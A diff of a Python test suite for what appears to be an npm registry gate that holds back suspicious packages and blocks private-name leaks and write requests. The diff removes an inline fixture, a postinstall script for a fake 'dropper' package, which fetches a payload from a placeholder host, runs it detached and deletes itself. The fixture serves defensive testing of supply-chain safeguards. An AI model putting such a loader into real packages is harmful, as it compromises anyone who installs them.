@@ -22,16 +22,7 @@ sys.path.insert(0, str(ROOT / "tools"))
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
 from common import Tally  # noqa: E402
 from source_server_writers import make_certificates  # noqa: E402
-from gate_world_writers import CORDON, DAY, HOUR, Gate, Registry, World  # noqa: E402
-
-# What the phantom brings: never run here. It takes the environment, sends it away and removes itself, by its words.
-SETUP = """// inert
-const https = require("https"), fs = require("fs"), cp = require("child_process");
-https.get("https://files.example.invalid/stage", (answer) => {
-  const out = fs.createWriteStream("/tmp/inert-stage");
-  answer.pipe(out).on("finish", () => { cp.spawn("/tmp/inert-stage", [], { detached: true, stdio: "ignore" }).unref(); fs.unlinkSync(__filename); });
-});
-"""
+from gate_world_writers import CORDON, DAY, DROPPER, HOUR, Gate, Registry, World  # noqa: E402
 
 
 def registry():
@@ -43,7 +34,7 @@ def registry():
         out.publish(name, "1.0.1", 10 * HOUR, {"index.js": code}, dependencies={"stowaway": "^1.0.0"})
     out.publish("stowaway", "1.0.0", 12 * HOUR, {"index.js": "module.exports = 3;\n", "setup.js": "console.log('thank you');\n"},
                 scripts={"postinstall": "node setup.js"})
-    out.publish("dropper", "1.0.0", 30 * DAY, {"index.js": "", "setup.js": SETUP}, scripts={"postinstall": "node setup.js"})
+    out.publish("dropper", "1.0.0", 30 * DAY, {"index.js": "", "setup.js": DROPPER}, scripts={"postinstall": "node setup.js"})
     out.publish("@acme/secret", "1.0.0", 90 * DAY, {"index.js": ""})
     return out
 
@@ -103,6 +94,10 @@ def phantom(world):
         world.check("in observe mode it passes", done.returncode == 0, done.stderr)
         told = gate.cordon("explain", "carrier")
         world.check("and what would have held it is written down", "phantom-dependency" in told.stdout, told.stdout)
+    with Gate(world, "--no-knowledge", "--observe", registry=source) as gate:
+        get(gate.url + "steady")
+        told = gate.cordon("explain", "steady").stdout
+        world.check("nor is anything said to be withheld", "passed  steady@1.1.0  (left in the list" in told and "withheld" not in told, told)
 
 
 def lies(world):
@@ -138,6 +133,8 @@ def outward(world):
         with urllib.request.urlopen(request, timeout=30) as answer:
             answer.read()
         world.check("an audit passes without private names", [json.loads(each) for each in source.bodies] == [{"steady": ["1.0.0"]}], source.bodies)
+        audited = json.loads(gate.cordon("explain", "acme-tools", "--format", "json").stdout)["audited"]
+        world.check("but what the client has is kept", [(each["version"], each["address"]) for each in audited] == [("2.0.0", "127.0.0.1")], audited)
         for method, path in (("PUT", "steady"), ("PUT", "-/user/org.couchdb.user:kim"), ("DELETE", "steady/-rev/1"), ("POST", "-/npm/v1/tokens")):
             asked = len(source.asked)
             try:
